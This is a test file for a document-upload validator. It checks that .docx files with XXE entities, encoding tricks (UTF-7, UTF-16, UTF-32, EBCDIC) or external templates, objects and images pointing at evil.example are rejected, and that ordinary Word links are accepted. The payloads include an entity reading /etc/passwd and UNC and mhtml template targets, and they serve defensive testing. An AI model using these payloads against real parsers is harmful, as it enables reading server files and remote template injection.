// Forbidden XML in documents, next to the tests of other hostile files.
import { beforeAll, describe, expect, it } from 'vitest';

import type { Problem } from '#core/shared/messages.ts';
import { watchPart } from '#features/storage/files/server/parts.ts';

import { createDocument } from './hostile-files.ts';
import { createUser, type TestUser } from './people.ts';
import { useTestApp } from './test-app.ts';
import { sendFile, storedNames } from './uploads.ts';

const app = useTestApp({ RATE_LIMIT_UPLOADS: '100000' });
let ada: TestUser;
beforeAll(async () => {
  ada = await createUser(app.database);
});

const dtd =
  'Upload failed: This document contains a document type definition (DTD), which can make programs open other files. Please save it as a PDF.';
const encoding = 'Upload failed: This document contains text in an encoding we cannot check. Please save it as a PDF.';
const fetches =
  'Upload failed: This document loads a picture, template or object from another address when opened. Please embed it in the document, or save it as a PDF.';
const links =
  'Upload failed: The links in this document cannot be checked. Please save it again in the program it comes from, or save it as a PDF.';

const text =
  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>';
const entity = '<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>';
const declared = (name: string) => `<?xml version="1.0" encoding="${name}"?>`;
const attack = declared('UTF-8') + entity + text;
const wide = (written: string) => Buffer.from(written, 'utf16le');
const wideBackwards = (written: string) => wide(written).swap16();
/** Four bytes per letter. */
const widest = (written: string) => Buffer.from(Array.from(Buffer.from(written), (letter) => [letter, 0, 0, 0]).flat());

const officeType = (kind: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}`;
const relationship = (kind: string, target: string) =>
  `<Relationship Id="r1" Type="${officeType(kind)}" Target="${target}" TargetMode="External"/>`;
const list = (...tags: string[]) =>
  `${declared('UTF-8')}\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${tags.join('')}</Relationships>`;
const withLinks = (...tags: string[]) => ({ 'word/document.xml': text, 'word/_rels/document.xml.rels': list(...tags) });

type Parts = Record<string, string | Uint8Array>;

describe('a document is rejected with a message and stores nothing if', () => {
  it.each<[string, Parts, string]>([
    ['its text has a DTD', { 'word/document.xml': attack }, dtd],
    [
      'the DTD stands behind a comment',
      { 'word/document.xml': `${declared('UTF-8')}<!-- ${'x'.repeat(200_000)} -->${entity}${text}` },
      dtd,
    ],
    ['the DTD is in a footer', { 'word/document.xml': text, 'word/footer1.xml': attack }, dtd],
    ['the DTD is in data of another program', { 'word/document.xml': text, 'customXml/item1.xml': attack }, dtd],
    [
      'the DTD is in a list of links',
      { 'word/document.xml': text, 'word/_rels/document.xml.rels': entity + list() },
      dtd,
    ],
    [
      'the DTD is in a part that is called a picture',
      { 'word/document.xml': text, 'word/media/image1.png': attack },
      dtd,
    ],
    [
      'the DTD is in a drawing',
      {
        'word/document.xml': text,
        'word/media/image1.svg': '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://example.com/svg11.dtd"><svg/>',
      },
      dtd,
    ],
    ['the DTD is in UTF-8 behind a mark', { 'word/document.xml': `\ufeff${attack}` }, dtd],
    ['the DTD is in UTF-16', { 'word/document.xml': wide(`\ufeff${declared('UTF-16')}${entity}${text}`) }, dtd],
    [
      'the DTD is in UTF-16 the other way round',
      { 'word/document.xml': wideBackwards(`\ufeff${declared('UTF-16')}${entity}${text}`) },
      dtd,
    ],
    ['the DTD is in UTF-16 without a mark', { 'word/document.xml': wide(declared('UTF-16LE') + entity + text) }, dtd],
    ['the DTD is in UTF-32', { 'word/document.xml': widest(entity + text) }, dtd],
    [
      'the encoding is UTF-7, which can hide one',
      { 'word/document.xml': `${declared('UTF-7')}+ADwAIQ-DOCTYPE x SYSTEM "http://example.com/">${text}` },
      encoding,
    ],
    [
      'the encoding is named behind more than a declaration takes',
      { 'word/document.xml': `<?xml version="1.0"${' '.repeat(3000)}encoding="UTF-7"?>${text}` },
      encoding,
    ],
    ['the encoding is a mainframe’s', { 'word/document.xml': Buffer.from('4c6fa7944081', 'hex') }, encoding],
    ['a template lies elsewhere', withLinks(relationship('attachedTemplate', 'https://evil.example/a.dotm')), fetches],
    [
      'an object lies elsewhere',
      withLinks(relationship('oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html')),
      fetches,
    ],
    ['a picture lies elsewhere', withLinks(relationship('image', 'http://evil.example/seen.png')), fetches],
    ['a frame lies elsewhere', withLinks(relationship('frame', '//evil.example/a')), fetches],
    [
      'a template lies on another machine',
      withLinks(relationship('attachedTemplate', '\\\\evil.example\\share\\a.dotm')),
      fetches,
    ],
    [
      'a template lies on another machine, written as a file',
      withLinks(relationship('attachedTemplate', 'file:///\\\\evil.example\\share\\a.dotm')),
      fetches,
    ],
    [
      'a template lies on another machine, written as a file of it',
      withLinks(relationship('attachedTemplate', 'file://evil.example/share/a.dotm')),
      fetches,
    ],
    ['an address is written in numbers', withLinks(relationship('image', '&#x68;ttp&#58;//evil.example/')), fetches],
    ['an address is written in per cent', withLinks(relationship('image', '%5C%5Cevil.example%5Ca')), fetches],
    [
      'an address stands between single quotes, in a prefixed tag',
      withLinks(
        relationship('hyperlink', 'https://example.com/'),
        `<p:Relationship Target='http://evil.example/' Type='${officeType('image')}' Id='r2' />`,
      ),
      fetches,
    ],
    [
      'a link only sounds like one to follow',
      withLinks(`<Relationship Id="r1" Type="http://example.com/hyperlink" Target="http://evil.example/"/>`),
      fetches,
    ],
    [
      'the links of a setting lead elsewhere',
      {
        'word/document.xml': text,
        'word/_rels/settings.xml.rels': list(relationship('attachedTemplate', 'http://evil.example/a.dotm')),
      },
      fetches,
    ],
    [
      'a link hides behind a comment',
      withLinks('<!-- <Relationship a=" -->', relationship('image', 'http://evil.example/'), '<!-- " -->'),
      links,
    ],
    ['a link is no whole tag', withLinks('<Relationship Id="r1" Type Target="http://evil.example/"/>'), links],
    [
      'a link is longer than any',
      withLinks(relationship('hyperlink', `https://example.com/${'x'.repeat(70_000)}`)),
      links,
    ],
    [
      'links are in UTF-16',
      {
        'word/document.xml': text,
        'word/_rels/document.xml.rels': wide(
          `\ufeff<Relationships>${relationship('hyperlink', 'https://example.com/')}</Relationships>`,
        ),
      },
      links,
    ],
  ])('%s', async (_where, parts, detail) => {
    const response = await sendFile(app, { as: ada, name: 'a.docx', bytes: createDocument(parts) });
    expect([response.status, ((await response.json()) as Problem).detail]).toEqual([422, detail]);
    const { keys, underWay } = await storedNames(app.store);
    expect([keys.filter((key) => key.includes(ada.id) && key.endsWith('a.docx')), underWay]).toEqual([[], []]);
  });
});

describe('a document is accepted if', () => {
  it.each<[string, Parts]>([
    [
      'its text only speaks of a DTD',
      {
        'word/document.xml':
          declared('UTF-8') +
          text.replace('<w:body/>', '<w:body><w:p><w:r><w:t>&lt;!DOCTYPE html></w:t></w:r></w:p></w:body>'),
      },
    ],
    ['it is written in UTF-16', { 'word/document.xml': wide(`\ufeff${declared('UTF-16')}${text}`) }],
    [
      'its declaration is written otherwise',
      { 'word/document.xml': `\ufeff<?xml version='1.0' encoding='utf-8' standalone='yes' ?>${text}` },
    ],
    [
      'a part says nothing of its encoding',
      { 'word/document.xml': text, 'docProps/custom.xml': '<?xml version="1.0"?><a/>' },
    ],
    [
      'it holds a picture and a drawing',
      {
        'word/document.xml': text,
        'word/media/image1.png': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0x3c]),
        'word/media/image2.svg': `${declared('iso-8859-1')}<svg/>`,
      },
    ],
    [
      'it has the links that Word writes',
      {
        ...withLinks(
          relationship('hyperlink', 'https://example.com/?a=1&amp;b=2'),
          relationship('hyperlink', 'mailto:ada@example.com'),
          relationship('image', 'file:///C:\\Users\\Ada\\Pictures\\logo.png'),
          relationship('image', 'NULL'),
          `<Relationship Id="r9" Type="${officeType('image')}" Target="media/image1.png"/>`,
          `<Relationship Id="r10" Type="${officeType('customXml')}" Target="../customXml/item1.xml"/>`,
        ),
        'word/_rels/settings.xml.rels': list(
          relationship(
            'attachedTemplate',
            'file:///C:\\Users\\Ada%20L\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotx',
          ),
        ),
        'word/_rels/header1.xml.rels': list(relationship('attachedTemplate', 'Normal.dotm')),
      },
    ],
  ])('%s', async (_where, parts) => {
    const response = await sendFile(app, { as: ada, name: 'b.docx', bytes: createDocument(parts) });
    expect([response.status, await response.text()]).toEqual([201, expect.anything()]);
  });
});

it('a document part is inspected however it is split into chunks', () => {
  for (const [name, part, found] of [
    ['word/document.xml', Buffer.from(attack), true],
    ['word/document.xml', wide(declared('UTF-16') + entity + text), true],
    ['word/_rels/document.xml.rels', Buffer.from(list(relationship('image', 'http://evil.example/'))), true],
    ['word/document.xml', Buffer.from(text), false],
    ['word/_rels/document.xml.rels', Buffer.from(list(relationship('hyperlink', 'https://example.com/'))), false],
  ] as const) {
    for (const length of [1, 7, 64, 1023]) {
      const watch = watchPart(name);
      const findings = Array.from({ length: Math.ceil(part.length / length) }, (_, piece) =>
        watch.take(part.subarray(piece * length, (piece + 1) * length)),
      );
      expect(
        [...findings, watch.end()].some((finding) => finding !== undefined),
        `${name} in pieces of ${length}`,
      ).toBe(found);
    }
  }
});
